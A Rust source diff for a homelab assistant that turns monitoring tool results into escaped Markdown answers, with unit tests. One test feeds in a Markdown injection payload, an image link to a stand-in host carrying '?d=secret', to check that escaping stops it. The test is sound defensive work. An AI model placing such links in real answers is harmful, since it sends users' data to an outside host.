@@ -1,221 +1,407 @@
-//! The builtin provider's answers from the newer tools: problems, host facts, ZFS pools, one
-//! container's details and logs.
+//! How the builtin provider says each tool's result: one function per tool, chosen by an
+//! exhaustive match on the catalog's [`ToolOutput`], so a tool without words here does not compile.
+//!
+//! Answers are Markdown meant to render as intended: paragraphs apart, a blank line before each
+//! list, and no empty fields. Anything a container, a log or an alert put into a result is escaped.
 
-use serde_json::Value;
+use homelab_schemas::{
+    monitoring::{ContainerDetails, ContainerLogs, ContainerStats, HostInfo, Problems, TruenasStatus, ZfsPools},
+    ContainerInfo, SystemResources, ToolOutput,
+};
 
 use super::topics::{Topic, Topics};
 
-/// A value from a tool's result, escaped for the Markdown answer (it may hold anything a
-/// container, a log or an alert put there).
-fn text(v: &Value) -> std::borrow::Cow<'_, str> {
-    homelab_common::markdown::escape(v.as_str().unwrap_or("?"))
+/// The answer's part for one tool result.
+pub fn render(output: &ToolOutput, topics: &Topics) -> String {
+    match output {
+        ToolOutput::SystemResources(r) => resources(r, topics),
+        ToolOutput::Containers(list) => containers(list, topics),
+        ToolOutput::Problems(p) => problems(p),
+        ToolOutput::HostInfo(h) => host(h, topics),
+        ToolOutput::ZfsPools(z) => zfs(z),
+        ToolOutput::TruenasStatus(t) => truenas(t),
+        ToolOutput::ContainerDetails(d) => details(d),
+        ToolOutput::ContainerStats(s) => stats(s, topics),
+        ToolOutput::ContainerLogs(l) => logs(l),
+    }
 }
 
-pub fn problems(v: &Value) -> String {
-    let list = v["problems"].as_array().cloned().unwrap_or_default();
-    let checked =
-        v["checked"].as_array().map(|c| c.iter().map(text).collect::<Vec<_>>().join(", ")).unwrap_or_default();
-    if list.is_empty() {
-        return format!("No problems found. I checked: {checked}.");
-    }
-    let lines: Vec<String> = list
-        .iter()
-        .map(|p| {
-            format!(
-                "- **{}** {} ({}): {}",
-                text(&p["severity"]),
-                text(&p["subject"]),
-                text(&p["kind"]),
-                text(&p["reason"])
-            )
-        })
-        .collect();
-    format!("{} problem{} found:\n{}", list.len(), if list.len() == 1 { "" } else { "s" }, lines.join("\n"))
+/// Text from the system, escaped for the Markdown answer.
+fn text(value: &str) -> std::borrow::Cow<'_, str> {
+    homelab_common::markdown::escape(value)
 }
 
-pub fn host(v: &Value, topics: &Topics) -> String {
-    let mut lines = Vec::new();
-    let specific = topics.has(Topic::Uptime)
-        || [
-            "temperature",
-            "temperatures",
-            "temp",
-            "temps",
-            "hot",
-            "heat",
-            "network",
-            "interfaces",
-            "interface",
-            "bandwidth",
-            "traffic",
-        ]
-        .iter()
-        .any(|w| topics.words.iter().any(|x| x == w));
-    if !specific || topics.has(Topic::Uptime) {
-        lines.push(format!("The server ({}) has been up for {}.", text(&v["hostname"]), text(&v["uptime"])));
+/// A heading line and its bullet list, with the blank line Markdown needs between them.
+fn bullets(head: &str, items: impl IntoIterator<Item = String>) -> String {
+    let items: Vec<String> = items.into_iter().map(|i| format!("- {i}")).collect();
+    format!("{head}\n\n{}", items.join("\n"))
+}
+
+fn plural(n: usize, one: &str, many: &str) -> String {
+    format!("{n} {}", if n == 1 { one } else { many })
+}
+
+fn resources(r: &SystemResources, topics: &Topics) -> String {
+    let all = !topics.names_a_figure();
+    let mut parts = Vec::new();
+    if all || topics.has(Topic::Cpu) {
+        parts.push(format!("CPU usage is {:.1}%.", r.cpu_percent));
     }
-    if !specific {
-        lines.push(format!(
-            "It runs {} (kernel {}) on {} CPU cores.",
-            text(&v["os"]),
-            text(&v["kernel"]),
-            v["cpu_cores"]
+    if all || topics.has(Topic::Memory) {
+        parts.push(format!(
+            "Memory: {:.2} GB used of {:.2} GB ({:.1}%), {:.2} GB available.",
+            r.memory_used_gb,
+            r.memory_total_gb,
+            r.memory_percent,
+            (r.memory_total_gb - r.memory_used_gb).max(0.0)
         ));
     }
-    let wants_temps = !specific
-        || ["temperature", "temperatures", "temp", "temps", "hot", "heat"]
-            .iter()
-            .any(|w| topics.words.iter().any(|x| x == w));
-    if wants_temps {
-        let temps = v["temperatures"].as_array().cloned().unwrap_or_default();
-        if temps.is_empty() {
-            lines.push("No temperature sensors are visible on this host.".into());
+    if all || topics.has(Topic::Disk) {
+        if r.disk.is_empty() {
+            parts.push("I found no filesystems over 1 GB to report.".into());
         } else {
-            let t: Vec<String> =
-                temps.iter().map(|t| format!("- {}: {} °C", text(&t["label"]), t["celsius"])).collect();
-            lines.push(format!("Temperatures:\n{}", t.join("\n")));
+            parts.push(bullets(
+                "Disk space:",
+                r.disk.iter().map(|d| {
+                    format!(
+                        "`{}`: {:.2} GB free of {:.2} GB ({:.1}% used){}",
+                        d.path.replace('`', "'"),
+                        d.free_gb,
+                        d.total_gb,
+                        d.percent_used,
+                        if d.percent_used >= 90.0 { " — nearly full" } else { "" }
+                    )
+                }),
+            ));
         }
     }
-    let wants_net = !specific
-        || ["network", "interfaces", "interface", "bandwidth", "traffic"]
-            .iter()
-            .any(|w| topics.words.iter().any(|x| x == w));
-    if wants_net {
-        let nics: Vec<String> = v["network_interfaces"]
-            .as_array()
-            .into_iter()
-            .flatten()
-            .map(|n| {
-                let gb = |k: &str| n[k].as_f64().unwrap_or(0.0) / 1024.0 / 1024.0 / 1024.0;
-                format!(
-                    "- {}: {:.2} GB received, {:.2} GB sent",
-                    text(&n["name"]),
-                    gb("received_bytes"),
-                    gb("transmitted_bytes")
-                )
-            })
-            .collect();
-        if !nics.is_empty() {
-            lines.push(format!("Network interfaces:\n{}", nics.join("\n")));
-        }
+    if all || topics.has(Topic::Load) {
+        let [one, five, fifteen] = r.load_average;
+        parts.push(format!("Load average (1, 5, 15 min): {one:.2}, {five:.2}, {fifteen:.2}."));
     }
-    lines.join("\n")
+    parts.join("\n\n")
 }
 
-pub fn zfs(v: &Value) -> String {
-    let pools = v["pools"].as_array().cloned().unwrap_or_default();
-    if pools.is_empty() {
-        return v["note"].as_str().unwrap_or("No ZFS pools found.").to_string();
-    }
-    let lines: Vec<String> = pools
+fn describe(c: &ContainerInfo) -> String {
+    let ports: Vec<String> = c
+        .ports
         .iter()
-        .map(|p| {
-            let space = match (p["free_gb"].as_f64(), p["size_gb"].as_f64()) {
+        .map(|(inside, bindings)| match bindings {
+            Some(list) if !list.is_empty() => {
+                let outside: Vec<String> = list.iter().map(|b| format!("{}:{}", b.host_ip, b.host_port)).collect();
+                format!("{} → {inside}", outside.join(", "))
+            }
+            _ => format!("{inside} (not published)"),
+        })
+        .collect();
+    let ports = if ports.is_empty() { "no ports".to_string() } else { format!("ports {}", ports.join("; ")) };
+    format!(
+        "**{}** — {} ({}), image `{}`, {}",
+        text(&c.name),
+        c.state,
+        text(&c.status),
+        c.image.replace('`', "'"),
+        ports
+    )
+}
+
+/// The names closest to `wanted` (fewest edits, a name that contains it counting as one), up
+/// to three that tie; none when even the closest is too far off to be a typo.
+pub fn closest<'a>(wanted: &str, names: impl IntoIterator<Item = &'a str>) -> Vec<&'a str> {
+    let wanted = wanted.to_lowercase();
+    let scored: Vec<(usize, &str)> = names
+        .into_iter()
+        .map(|n| {
+            let lower = n.to_lowercase();
+            let edits = strsim::damerau_levenshtein(&wanted, &lower);
+            (if lower.contains(&wanted) { edits.min(1) } else { edits }, n)
+        })
+        .collect();
+    let Some(best) = scored.iter().map(|(d, _)| *d).min() else { return Vec::new() };
+    if best > (wanted.chars().count() / 3).max(2) {
+        return Vec::new();
+    }
+    scored.into_iter().filter(|(d, _)| *d == best).take(3).map(|(_, n)| n).collect()
+}
+
+/// "There is no container named 'x'", with the closest names when there are any.
+pub fn no_such_container(wanted: &str, list: &[ContainerInfo]) -> String {
+    let near = closest(wanted, list.iter().map(|c| c.name.as_str()));
+    let wanted = text(wanted);
+    match near.as_slice() {
+        [] if list.is_empty() => format!("There is no container named '{wanted}': this host has no containers."),
+        [] => format!(
+            "There is no container named '{wanted}', and none has a similar name. Ask \"which containers are \
+             there?\" to see all {}.",
+            list.len()
+        ),
+        names => {
+            let names: Vec<String> = names.iter().map(|n| format!("**{}**", text(n))).collect();
+            format!("There is no container named '{wanted}'. Did you mean {}?", names.join(" or "))
+        }
+    }
+}
+
+fn containers(list: &[ContainerInfo], topics: &Topics) -> String {
+    if list.is_empty() {
+        return "There are no containers on this host (none running, none stopped).".into();
+    }
+    let running: Vec<&ContainerInfo> = list.iter().filter(|c| c.state == "running").collect();
+    let stopped: Vec<&ContainerInfo> = list.iter().filter(|c| c.state != "running").collect();
+    let lines = |set: &[&ContainerInfo]| set.iter().map(|c| describe(c)).collect::<Vec<_>>();
+    let named: Vec<&ContainerInfo> =
+        list.iter().filter(|c| topics.words.iter().any(|w| w == &c.name.to_lowercase())).collect();
+    if !named.is_empty() {
+        return lines(&named).iter().map(|l| format!("- {l}")).collect::<Vec<_>>().join("\n");
+    }
+    // One container was asked about ("the nginx container", "logs of plex"), not a list
+    // ("containers running in production"): it does not exist.
+    let one_asked = topics.words.iter().any(|w| w == "container" || w == "container's")
+        || [Topic::Details, Topic::Logs, Topic::ContainerStats].iter().any(|t| topics.has(*t));
+    if let Some(wanted) = topics.container.as_ref().filter(|_| one_asked) {
+        return no_such_container(wanted, list);
+    }
+    let summary = format!(
+        "There are {}: {} running and {} stopped.",
+        plural(list.len(), "container", "containers"),
+        running.len(),
+        stopped.len()
+    );
+    if topics.has(Topic::Stopped) && !topics.has(Topic::Running) {
+        return if stopped.is_empty() {
+            format!("No containers are stopped: all {} are running.", running.len())
+        } else {
+            bullets(&format!("{} of {} containers are not running:", stopped.len(), list.len()), lines(&stopped))
+        };
+    }
+    if topics.has(Topic::Running) && !topics.has(Topic::Stopped) && !topics.has(Topic::Everything) {
+        if running.is_empty() {
+            return format!("No containers are running ({} stopped).", stopped.len());
+        }
+        let mut text =
+            bullets(&format!("{} of {} containers are running:", running.len(), list.len()), lines(&running));
+        if !stopped.is_empty() {
+            let names: Vec<String> = stopped.iter().map(|c| self::text(&c.name).into_owned()).collect();
+            text.push_str(&format!("\n\nNot running: {}.", names.join(", ")));
+        }
+        return text;
+    }
+    if topics.has(Topic::Everything) {
+        return if stopped.is_empty() {
+            format!("All {} containers are running.", list.len())
+        } else {
+            bullets(&format!("{summary} Not running:"), lines(&stopped))
+        };
+    }
+    bullets(&summary, lines(&list.iter().collect::<Vec<_>>()))
+}
+
+fn problems(p: &Problems) -> String {
+    if p.problems.is_empty() {
+        return format!("No problems found. I checked: {}.", p.checked.join(", "));
+    }
+    bullets(
+        &format!("{} found:", plural(p.problems.len(), "problem", "problems")),
+        p.problems
+            .iter()
+            .map(|x| format!("**{}** {} ({}): {}", x.severity.as_str(), text(&x.subject), x.kind, text(&x.reason))),
+    )
+}
+
+fn host(h: &HostInfo, topics: &Topics) -> String {
+    let said = |words: &[&str]| words.iter().any(|w| topics.words.iter().any(|x| x == w));
+    let temps_asked = said(&["temperature", "temperatures", "temp", "temps", "hot", "heat"]);
+    let net_asked = said(&["network", "interfaces", "interface", "bandwidth", "traffic"]);
+    let specific = topics.has(Topic::Uptime) || temps_asked || net_asked;
+    let mut parts = Vec::new();
+    if !specific || topics.has(Topic::Uptime) {
+        let name = h.hostname.as_deref().map(|n| format!(" ({})", text(n))).unwrap_or_default();
+        parts.push(format!("The server{name} has been up for {}.", h.uptime));
+    }
+    if !specific {
+        let os = match (&h.os, &h.kernel) {
+            (Some(os), Some(kernel)) => format!("It runs {} (kernel {}) on ", text(os), text(kernel)),
+            (Some(os), None) => format!("It runs {} on ", text(os)),
+            (None, Some(kernel)) => format!("It runs kernel {} on ", text(kernel)),
+            (None, None) => "It has ".to_string(),
+        };
+        parts.push(format!("{os}{}.", plural(h.cpu_cores, "CPU core", "CPU cores")));
+    }
+    if !specific || temps_asked {
+        if h.temperatures.is_empty() {
+            parts.push("No temperature sensors are visible on this host.".into());
+        } else {
+            parts.push(bullets(
+                "Temperatures:",
+                h.temperatures.iter().map(|t| format!("{}: {:.1} °C", text(&t.label), t.celsius)),
+            ));
+        }
+    }
+    if (!specific || net_asked) && !h.network_interfaces.is_empty() {
+        let gb = |bytes: u64| bytes as f64 / 1024.0 / 1024.0 / 1024.0;
+        parts.push(bullets(
+            "Network interfaces (since boot):",
+            h.network_interfaces.iter().map(|n| {
+                format!(
+                    "{}: {:.2} GB received, {:.2} GB sent",
+                    text(&n.name),
+                    gb(n.received_bytes),
+                    gb(n.transmitted_bytes)
+                )
+            }),
+        ));
+    }
+    parts.join("\n\n")
+}
+
+fn zfs(z: &ZfsPools) -> String {
+    if z.pools.is_empty() {
+        return z.note.clone().unwrap_or_else(|| "No ZFS pools found.".into());
+    }
+    let bad = z.pools.iter().filter(|p| !p.healthy).count();
+    let head = if bad == 0 {
+        "All ZFS pools are ONLINE.".to_string()
+    } else {
+        format!("{} {} attention:", plural(bad, "ZFS pool", "ZFS pools"), if bad == 1 { "needs" } else { "need" })
+    };
+    bullets(
+        &head,
+        z.pools.iter().map(|p| {
+            let space = match (p.free_gb, p.size_gb) {
                 (Some(free), Some(size)) => format!(", {free:.2} GB free of {size:.2} GB"),
                 _ => String::new(),
             };
-            format!("- **{}**: {}{space}", text(&p["name"]), text(&p["state"]))
-        })
-        .collect();
-    let bad = pools.iter().filter(|p| p["healthy"] == false).count();
-    let head =
-        if bad == 0 { "All ZFS pools are ONLINE.".to_string() } else { format!("{bad} ZFS pool(s) need attention.") };
-    format!("{head}\n{}", lines.join("\n"))
+            format!("**{}**: {}{space}", text(&p.name), text(&p.state))
+        }),
+    )
 }
 
-pub fn truenas(v: &Value) -> String {
-    if v["configured"] == false {
-        return v["note"].as_str().unwrap_or("TrueNAS extras are not configured.").to_string();
+fn truenas(t: &TruenasStatus) -> String {
+    if !t.configured {
+        return t.note.clone().unwrap_or_else(|| "TrueNAS extras are not configured.".into());
     }
-    let mut lines = Vec::new();
-    let alerts = v["alerts"].as_array().cloned().unwrap_or_default();
-    if alerts.is_empty() {
-        lines.push("TrueNAS has no active alerts.".to_string());
+    let mut parts = Vec::new();
+    if t.alerts.is_empty() {
+        parts.push("TrueNAS has no active alerts.".to_string());
     } else {
-        lines.push(format!("TrueNAS has {} active alert(s):", alerts.len()));
-        lines.extend(alerts.iter().map(|a| format!("- **{}**: {}", text(&a["level"]), text(&a["text"]))));
+        parts.push(bullets(
+            &format!("TrueNAS has {}:", plural(t.alerts.len(), "active alert", "active alerts")),
+            t.alerts.iter().map(|a| format!("**{}**: {}", text(&a.level), text(&a.text))),
+        ));
     }
-    for p in v["pools"].as_array().into_iter().flatten() {
-        let scan = &p["scan"];
-        let scan_text = match (scan["function"].as_str(), scan["state"].as_str()) {
-            (Some(f), Some("SCANNING")) => format!("{} in progress ({}% done)", f.to_lowercase(), scan["percentage"]),
+    for p in &t.pools {
+        let scan = p.scan.as_ref();
+        let scan_text = match (scan.and_then(|s| s.function.as_deref()), scan.and_then(|s| s.state.as_deref())) {
+            (Some(f), Some("SCANNING")) => {
+                let done = scan.and_then(|s| s.percentage).map(|p| format!(" ({p:.1}% done)")).unwrap_or_default();
+                format!("{} in progress{done}", f.to_lowercase())
+            }
             (Some(f), Some(state)) => format!("last {} {}", f.to_lowercase(), state.to_lowercase()),
             _ => "no scrub recorded".to_string(),
         };
-        lines.push(format!("Pool **{}** is {}; {scan_text}.", text(&p["name"]), text(&p["status"])));
+        parts.push(format!("Pool **{}** is {}; {scan_text}.", text(&p.name), text(&p.status)));
     }
-    lines.join("\n")
+    parts.join("\n\n")
 }
 
-pub fn logs(v: &Value) -> String {
-    let name = text(&v["name"]);
-    // Inside a fenced block nothing is Markdown; only a fence of its own could end it early.
-    let lines: Vec<&str> = v["lines"].as_array().into_iter().flatten().map(|l| l.as_str().unwrap_or("?")).collect();
-    if lines.is_empty() {
+fn logs(l: &ContainerLogs) -> String {
+    let name = text(&l.name);
+    if l.lines.is_empty() {
         return format!("{name} has no log output in that window.");
     }
-    let mut out =
-        format!("Last {} log lines of {name}:\n```\n{}\n```", lines.len(), lines.join("\n").replace("```", "ʼʼʼ"));
-    if let Some(note) = v["note"].as_str() {
-        out.push_str(&format!("\n(Note: {}.)", homelab_common::markdown::escape(note)));
+    // Inside a fenced block nothing is Markdown; only a fence of its own could end it early.
+    let mut out = format!(
+        "Last {} of {name}:\n\n```\n{}\n```",
+        plural(l.lines.len(), "log line", "log lines"),
+        l.lines.join("\n").replace("```", "ʼʼʼ")
+    );
+    if let Some(note) = &l.note {
+        out.push_str(&format!("\n\n(Note: {}.)", text(note)));
     }
     out
 }
 
-pub fn stats(v: &Value, topics: &Topics) -> String {
-    let mut list = v["containers"].as_array().cloned().unwrap_or_default();
-    if list.is_empty() {
-        return v["note"].as_str().unwrap_or("No running containers to sample.").to_string();
+fn stats(s: &ContainerStats, topics: &Topics) -> String {
+    if s.containers.is_empty() {
+        return s.note.clone().unwrap_or_else(|| "No running containers to sample.".into());
     }
     let by_cpu = topics.has(Topic::Cpu) && !topics.has(Topic::Memory);
-    let key = if by_cpu { "cpu_percent" } else { "memory_used_mb" };
-    list.sort_by(|a, b| b[key].as_f64().unwrap_or(0.0).total_cmp(&a[key].as_f64().unwrap_or(0.0)));
-    let lines: Vec<String> = list
+    let mut sorted: Vec<_> = s.containers.iter().collect();
+    if by_cpu {
+        sorted.sort_by(|a, b| b.cpu_percent.total_cmp(&a.cpu_percent));
+    } else {
+        sorted.sort_by(|a, b| b.memory_used_mb.total_cmp(&a.memory_used_mb));
+    }
+    let lines: Vec<String> = sorted
         .iter()
         .map(|c| {
             format!(
-                "- **{}**: CPU {}%, memory {} MB of {} MB ({}%), network {} MB in / {} MB out, disk {} MB read / {} MB written",
-                text(&c["name"]), c["cpu_percent"], c["memory_used_mb"], c["memory_limit_mb"], c["memory_percent"],
-                c["net_rx_mb"], c["net_tx_mb"], c["block_read_mb"], c["block_write_mb"]
+                "**{}**: CPU {:.1}%, memory {:.0} MB of {:.0} MB ({:.1}%), network {:.1} MB in / {:.1} MB out, disk \
+                 {:.1} MB read / {:.1} MB written",
+                text(&c.name),
+                c.cpu_percent,
+                c.memory_used_mb,
+                c.memory_limit_mb,
+                c.memory_percent,
+                c.net_rx_mb,
+                c.net_tx_mb,
+                c.block_read_mb,
+                c.block_write_mb
             )
         })
         .collect();
-    let head = if list.len() == 1 {
-        String::new()
+    let mut out = if lines.len() == 1 {
+        lines[0].clone()
     } else {
-        format!("Running containers by {}:\n", if by_cpu { "CPU use" } else { "memory use" })
+        bullets(&format!("Running containers by {}:", if by_cpu { "CPU use" } else { "memory use" }), lines)
     };
-    format!("{head}{}", lines.join("\n"))
+    if let Some(note) = &s.note {
+        out.push_str(&format!("\n\n({}.)", text(note)));
+    }
+    out
 }
 
-pub fn details(v: &Value) -> String {
-    let mut facts = vec![format!("**{}** is {}", text(&v["name"]), text(&v["state"]))];
-    if let Some(status) = v["health"]["status"].as_str() {
-        let probe = v["health"]["last_output"]
-            .as_str()
-            .map(|o| format!(" (last check: {})", homelab_common::markdown::escape(o)))
-            .unwrap_or_default();
-        facts.push(format!("health {status}{probe}"));
+fn details(d: &ContainerDetails) -> String {
+    let state = d.state.as_deref().filter(|s| !s.is_empty()).unwrap_or("in an unknown state");
+    let mut facts = vec![format!("**{}** is {state}", text(&d.name))];
+    if let Some(health) = &d.health {
+        if let Some(status) = health.status.as_deref().filter(|s| !s.is_empty() && *s != "none") {
+            let probe = health
+                .last_output
+                .as_deref()
+                .filter(|o| !o.is_empty())
+                .map(|o| format!(" (last check: {})", text(o)))
+                .unwrap_or_default();
+            facts.push(format!("health {status}{probe}"));
+        }
     }
-    facts.push(format!("restarted {} times", v["restart_count"]));
-    if let Some(code) = v["exit_code"].as_i64() {
+    facts.push(match d.restart_count {
+        0 => "never restarted".to_string(),
+        1 => "restarted once".to_string(),
+        n => format!("restarted {n} times"),
+    });
+    if let Some(code) = d.exit_code.filter(|_| matches!(d.state.as_deref(), Some("exited" | "dead"))) {
         facts.push(format!("last exit code {code}"));
     }
-    if v["oom_killed"] == true {
+    if d.oom_killed {
         facts.push("it was killed for running out of memory".into());
     }
-    if let Some(t) = v["started_at"].as_str() {
+    if let Some(error) = d.error.as_deref().filter(|e| !e.is_empty()) {
+        facts.push(format!("error: {}", text(error)));
+    }
+    if let Some(t) = d.started_at.as_deref().filter(|t| !t.is_empty()) {
         facts.push(format!("started {t}"));
     }
-    if let Some(t) = v["finished_at"].as_str() {
+    if let Some(t) = d.finished_at.as_deref().filter(|t| !t.is_empty()) {
         facts.push(format!("finished {t}"));
     }
-    facts.push(format!("image `{}`", text(&v["image"])));
-    let mounts: Vec<String> = v["mounts"]
-        .as_array()
-        .into_iter()
-        .flatten()
-        .map(|m| format!("{} → {}", text(&m["source"]), text(&m["destination"])))
+    if let Some(image) = d.image.as_deref().filter(|i| !i.is_empty()) {
+        facts.push(format!("image `{}`", image.replace('`', "'")));
+    }
+    let mounts: Vec<String> = d
+        .mounts
+        .iter()
+        .filter_map(|m| Some(format!("{} → {}", text(m.source.as_deref()?), text(m.destination.as_deref()?))))
         .collect();
     if !mounts.is_empty() {
         facts.push(format!("mounts {}", mounts.join(", ")));
@@ -226,30 +412,50 @@ pub fn details(v: &Value) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use homelab_schemas::ToolId;
     use serde_json::json;
+
+    fn parse(tool: ToolId, v: serde_json::Value) -> ToolOutput {
+        ToolOutput::parse(tool, &v.to_string()).unwrap()
+    }
+
+    fn say(question: &str, tool: ToolId, v: serde_json::Value) -> String {
+        render(&parse(tool, v), &Topics::of(question))
+    }
 
     #[test]
     fn problems_are_listed_with_severity() {
         let v = json!({"problems": [{"severity": "critical", "kind": "container", "subject": "plex", "reason": "unhealthy (Up 2 hours (unhealthy))"}],
             "checked": ["containers", "filesystems"], "summary": "1 problem found."});
         assert_eq!(
-            problems(&v),
-            "1 problem found:\n- **critical** plex (container): unhealthy (Up 2 hours (unhealthy))"
+            say("Is anything wrong?", ToolId::Problems, v),
+            "1 problem found:\n\n- **critical** plex (container): unhealthy (Up 2 hours (unhealthy))"
         );
-        assert_eq!(
-            problems(&json!({"problems": [], "checked": ["containers"]})),
-            "No problems found. I checked: containers."
-        );
+        let none = json!({"problems": [], "checked": ["containers"], "summary": "No problems found."});
+        assert_eq!(say("Is anything wrong?", ToolId::Problems, none), "No problems found. I checked: containers.");
     }
 
     #[test]
     fn text_from_the_system_cannot_become_an_image_or_a_link() {
         let leak = "![x](http://192.0.2.1/?d=secret) [click](http://192.0.2.2)";
-        let details_answer = details(&json!({"name": "web", "state": "running", "image": "nginx", "restart_count": 0,
-            "health": {"status": "unhealthy", "last_output": leak}}));
-        let alert_answer = truenas(&json!({"alerts": [{"level": "WARNING", "text": leak}], "pools": []}));
-        let problems_answer = problems(
-            &json!({"problems": [{"severity": "warning", "kind": "container", "subject": "web", "reason": leak}], "checked": []}),
+        let details_answer = say(
+            "details of web",
+            ToolId::ContainerDetails,
+            json!({"name": "web", "id": "abc", "state": "running", "image": "nginx", "restart_count": 0,
+            "health": {"status": "unhealthy", "last_output": leak, "failing_streak": 1, "last_exit_code": 1},
+            "exit_code": 0, "oom_killed": false, "error": null, "started_at": null, "finished_at": null,
+            "ports": {}, "mounts": [], "labels": {}}),
+        );
+        let alert_answer = say(
+            "TrueNAS alerts?",
+            ToolId::TruenasStatus,
+            json!({"configured": true, "alerts": [{"level": "WARNING", "class": null, "text": leak}], "pools": []}),
+        );
+        let problems_answer = say(
+            "anything wrong?",
+            ToolId::Problems,
+            json!({"problems": [{"severity": "warning", "kind": "container", "subject": "web", "reason": leak}],
+                "checked": [], "summary": ""}),
         );
         for answer in [details_answer, alert_answer, problems_answer] {
             assert!(!answer.contains("![x]") && !answer.contains("[click]("), "{answer}");
@@ -258,27 +464,58 @@ mod tests {
     }
 
     #[test]
-    fn uptime_question_gets_the_uptime() {
-        let v = json!({"hostname": "nas", "uptime": "3 days, 2 hours", "os": "Debian", "kernel": "6.1", "cpu_cores": 4, "temperatures": [], "network_interfaces": []});
+    fn uptime_question_gets_the_uptime_and_missing_facts_leave_no_gaps() {
+        let v = json!({"hostname": "nas", "uptime": "3 days, 2 hours", "uptime_seconds": 266400, "os": "Debian",
+            "kernel": null, "cpu_cores": 1, "physical_cores": null, "temperatures": [], "network_interfaces": []});
         assert_eq!(
-            host(&v, &Topics::of("How long has the server been up?")),
+            say("How long has the server been up?", ToolId::HostInfo, v.clone()),
             "The server (nas) has been up for 3 days, 2 hours."
         );
+        let all = say("Tell me about the host", ToolId::HostInfo, v);
+        assert!(all.contains("It runs Debian on 1 CPU core."), "{all}");
+        assert!(!all.contains("()") && !all.contains(" ,") && !all.contains("null"), "{all}");
     }
 
     #[test]
     fn degraded_pools_are_called_out() {
-        let v = json!({"pools": [{"name": "tank", "state": "DEGRADED", "healthy": false, "free_gb": 100.0, "size_gb": 1000.0}]});
-        assert_eq!(zfs(&v), "1 ZFS pool(s) need attention.\n- **tank**: DEGRADED, 100.00 GB free of 1000.00 GB");
+        let v = json!({"pools": [{"name": "tank", "state": "DEGRADED", "healthy": false, "free_gb": 100.0, "size_gb": 1000.0,
+            "mount": "/mnt/tank", "used_gb": 900.0, "percent_used": 90.0}], "note": null});
         assert_eq!(
-            zfs(&json!({"pools": [], "note": "ZFS is not present on this host."})),
+            say("Is my pool ok?", ToolId::ZfsPools, v),
+            "1 ZFS pool needs attention:\n\n- **tank**: DEGRADED, 100.00 GB free of 1000.00 GB"
+        );
+        assert_eq!(
+            say("zfs?", ToolId::ZfsPools, json!({"pools": [], "note": "ZFS is not present on this host."})),
             "ZFS is not present on this host."
         );
     }
 
     #[test]
     fn logs_are_quoted_and_cut_notes_kept() {
-        let v = json!({"name": "plex", "lines": ["started", "listening on 32400"], "note": "only the last 2 lines are shown"});
-        assert_eq!(logs(&v), "Last 2 log lines of plex:\n```\nstarted\nlistening on 32400\n```\n(Note: only the last 2 lines are shown.)");
+        let v = json!({"name": "plex", "lines": ["started", "listening on 32400"], "line_count": 2,
+            "note": "only the last 2 lines are shown"});
+        assert_eq!(
+            say("logs of plex", ToolId::ContainerLogs, v),
+            "Last 2 log lines of plex:\n\n```\nstarted\nlistening on 32400\n```\n\n(Note: only the last 2 lines are shown.)"
+        );
+    }
+
+    #[test]
+    fn details_leave_out_what_is_empty() {
+        let v = json!({"name": "web", "id": "abc", "state": "running", "image": "", "restart_count": 1,
+            "health": {"status": "", "last_output": null, "failing_streak": null, "last_exit_code": null},
+            "exit_code": 0, "oom_killed": false, "error": "", "started_at": "2026-01-01T00:00:00Z", "finished_at": null,
+            "ports": {}, "mounts": [{"source": null, "destination": "/data", "read_only": false}], "labels": {}});
+        let a = say("details of web", ToolId::ContainerDetails, v);
+        assert_eq!(a, "**web** is running, restarted once, started 2026-01-01T00:00:00Z.");
+    }
+
+    #[test]
+    fn the_closest_names_are_suggested() {
+        let names = ["plex", "plex-db", "sonarr", "radarr", "nextcloud"];
+        assert_eq!(closest("plexx", names), vec!["plex"]);
+        assert_eq!(closest("app-wbe", ["app-web", "app-db", "app-cache"]), vec!["app-web"]);
+        assert_eq!(closest("sonar", names), vec!["sonarr"]);
+        assert!(closest("zzzz", names).is_empty());
     }
 }
